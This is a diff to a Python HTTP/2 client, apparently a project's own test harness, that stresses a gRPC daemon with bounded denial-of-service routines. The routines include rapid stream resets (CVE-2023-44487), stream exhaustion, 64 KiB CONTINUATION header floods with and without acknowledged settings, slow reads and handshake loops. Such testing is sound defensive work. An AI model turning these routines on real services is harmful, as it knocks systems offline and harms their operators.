@@ -1,9 +1,10 @@
 """A client with a good certificate and bad manners: does argv[1] to the daemon at argv[2] until SIGTERM.
 
 With argv[3], the directory of a `contain pki`, and argv[4], whose certificate to show. HTTP/2 (RFC 9113) by hand, as no library does
-what is done here. Its standard error says `attacking` once it has begun, and at the end how much it did. Its load is bounded: by
-argv[5] units a second, by the connections that it makes, and by 60 seconds."""
+what is done here. Its standard error says `attacking` once it has begun, `at work` once it has done argv[6] units, and at the end how
+much it did. Its load is bounded: by argv[5] units a second, by the connections that it makes, and by 120 seconds."""
 
+import os
 import signal
 import socket
 import ssl
@@ -15,7 +16,7 @@ DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION =
 ACK, END_STREAM, END_HEADERS = 1, 1, 4
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 CANCEL = struct.pack(">I", 8)
-LONGEST = 60
+LONGEST = 120
 MOST_STREAMS = 1 << 30
 
 
@@ -63,16 +64,23 @@ EMPTY = b"\0\0\0\0\0"
 
 
 class Connection:
-    """One connection with TLS and HTTP/2, which forgets what it reads."""
+    """One connection with TLS and HTTP/2, which forgets what it reads.
 
-    def __init__(self, target, context, window=65535):
+    gRPC 1.51 holds a peer to its settings, such as how many streams and how much metadata, from when the peer acknowledges them."""
+
+    def __init__(self, target, context, window=65535, acknowledges=True):
         host, port = target.rsplit(":", 1)
         self.socket = context.wrap_socket(socket.create_connection((host, int(port))), server_hostname=host)
-        self.socket.setblocking(False)
         self.stream = 1
-        # SETTINGS_INITIAL_WINDOW_SIZE
-        self.backlog = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)) + frame(SETTINGS, ACK, 0)
         self.gone = False
+        # SETTINGS_INITIAL_WINDOW_SIZE
+        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)))
+        self.backlog = b""
+        if acknowledges:
+            # What comes first are the settings, in whole as they are few.
+            self.take(self.socket.recv(65536))
+            self.backlog = frame(SETTINGS, ACK, 0)
+        self.socket.setblocking(False)
 
     def next_stream(self):
         self.stream += 2
@@ -107,6 +115,7 @@ class Attack:
     connections = 4
     window = 65535
     reads = True
+    acknowledges = True
 
     def __init__(self, target, context):
         self.target = target
@@ -116,7 +125,7 @@ class Attack:
         self.pool = [self.connect() for _ in range(self.connections)]
 
     def connect(self):
-        return Connection(self.target, self.context, self.window)
+        return Connection(self.target, self.context, self.window, self.acknowledges)
 
     def unit(self, connection):
         raise NotImplementedError
@@ -136,6 +145,13 @@ class Attack:
             connection.pump(self.reads)
 
 
+class Nothing(Attack):
+    """Connections on which nothing is said."""
+
+    def turn(self):
+        time.sleep(0.1)
+
+
 class Resets(Attack):
     """Calls that are given up as soon as they are made (CVE-2023-44487)."""
 
@@ -147,16 +163,20 @@ class Resets(Attack):
 
 
 class Streams(Attack):
-    """Calls whose request never comes, more of them than a connection may have."""
+    """Calls whose request never comes, as many of them as a connection may have; for each more, the oldest is given up."""
 
     connections = 16
+    MOST = 250  # with more than 256, the daemon ends the connection
 
     def unit(self, connection):
-        connection.backlog += frame(HEADERS, END_HEADERS, connection.next_stream(), LIST)
+        stream = connection.next_stream()
+        if stream > 2 * self.MOST:
+            connection.backlog += frame(RST_STREAM, 0, stream - 2 * self.MOST, CANCEL)
+        connection.backlog += frame(HEADERS, END_HEADERS, stream, LIST)
 
 
 class Headers(Attack):
-    """Calls with 64 KiB of metadata."""
+    """Calls with 64 KiB of metadata, for each of which the daemon ends the connection: in truth, handshakes without end."""
 
     LONG = LIST + b"".join(literal(b"x-%d" % i, b"a" * 1000) for i in range(64))
 
@@ -167,6 +187,12 @@ class Headers(Attack):
         for part in parts[1:-1]:
             out += frame(CONTINUATION, 0, stream, part)
         connection.backlog += out + frame(CONTINUATION, END_HEADERS, stream, parts[-1])
+
+
+class UnboundHeaders(Headers):
+    """The same where the daemon's settings are never acknowledged, so that it reads all of it, call after call."""
+
+    acknowledges = False
 
 
 class SlowReads(Attack):
@@ -206,12 +232,13 @@ class Sender(Connection):
     CHUNK = bytes(16384)
 
     def __init__(self, target, context):
-        super().__init__(target, context)
         self.owes = {}  # by stream: its first bytes, and how many there are to send with them
         self.initial = 65535
         self.room = 65535  # of the connection
         self.rooms = {}  # of each stream, more than the initial one
         self.heard = b""
+        self.backlog = b""
+        super().__init__(target, context)
 
     def feed(self):
         for stream, owed in list(self.owes.items()):
@@ -249,7 +276,6 @@ class Sender(Connection):
                     number, value = struct.unpack(">HI", payload[i : i + 6])
                     if number == 4:
                         self.initial = value
-                self.backlog += frame(SETTINGS, ACK, 0)
             elif kind == PING and not flags & ACK:
                 self.backlog += frame(PING, ACK, 0, payload)
             elif kind == RST_STREAM:
@@ -288,33 +314,58 @@ class Handshakes:
 
 
 ATTACKS = {
+    "none": Nothing,
     "resets": Resets,
     "streams": Streams,
     "headers": Headers,
+    "unbound_headers": UnboundHeaders,
     "slow_reads": SlowReads,
     "bodies": Bodies,
     "handshakes": Handshakes,
 }
 
 
+class Ended(Exception):
+    """SIGTERM, whatever is waited for."""
+
+
+def end(*_):
+    raise Ended
+
+
+def run(attack, rate, enough):
+    begun = time.monotonic()
+    turns = 0
+    is_at_work = False
+    while time.monotonic() - begun < LONGEST:
+        attack.turn()
+        turns += 1
+        if not is_at_work and attack.done >= enough:
+            is_at_work = True
+            print("at work", file=sys.stderr, flush=True)
+        if rate == 0:
+            continue
+        units = turns * getattr(attack, "connections", 1)
+        ahead = units / rate - (time.monotonic() - begun)
+        if ahead > 0:
+            time.sleep(ahead)
+
+
 def main():
-    what, target, pki, name, rate = sys.argv[1:6]
+    what, target, pki, name, rate, enough = sys.argv[1:7]
     context = ssl.create_default_context(cafile=f"{pki}/ca.pem")
     context.load_cert_chain(f"{pki}/{name}.pem", f"{pki}/{name}-key.pem")
     context.set_alpn_protocols(["h2"])
     attack = ATTACKS[what](target, context)
-    ended = []
-    signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
-    print("attacking", file=sys.stderr, flush=True)
+    # From here on with what nobody else wants of the processor: that of another machine would not be this one's.
+    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
     begun = time.monotonic()
-    turns = 0
-    while not ended and time.monotonic() - begun < LONGEST:
-        attack.turn()
-        turns += 1
-        units = turns * getattr(attack, "connections", 1)
-        ahead = units / float(rate) - (time.monotonic() - begun)
-        if ahead > 0:
-            time.sleep(ahead)
+    try:
+        signal.signal(signal.SIGTERM, end)
+        print("attacking", file=sys.stderr, flush=True)
+        run(attack, float(rate), int(enough))
+    except Ended:
+        pass
     seconds = time.monotonic() - begun
     print(f"attack={what} units={attack.done} connections_lost={attack.lost} seconds={seconds:.1f}", file=sys.stderr)
 
